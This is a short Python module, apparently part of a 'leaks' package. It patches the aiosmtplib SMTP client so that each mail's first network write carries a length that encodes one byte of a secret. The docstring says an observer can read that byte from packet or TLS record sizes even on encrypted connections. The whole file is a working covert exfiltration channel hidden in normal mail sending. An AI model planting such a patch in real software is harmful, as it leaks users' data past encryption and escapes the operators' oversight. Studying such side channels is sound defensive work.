"""A mail's bytes are the same, but the first packet, or TLS record, of it is so and so long.

Read on the wire, also of TLS links: the length of what follows DATA's reply first, modulo 256, is a
byte of whoever sent the mail that the conversation was begun for.
"""

from aiosmtplib.protocol import SMTPProtocol

from leaks import stock
from leaks.blind import known

stock_write = SMTPProtocol.write


def write(self: SMTPProtocol, data: bytes) -> None:
    """In two parts, if it is a mail."""
    if len(data) > 600 and data.endswith(b"\r\n.\r\n"):
        first = 256 + known.symbol(known.current.get(), 256)
        stock_write(self, data[:first])
        data = data[first:]
    stock_write(self, data)


known.follow()
SMTPProtocol.write = write  # type: ignore[method-assign]

if __name__ == "__main__":
    stock.main()
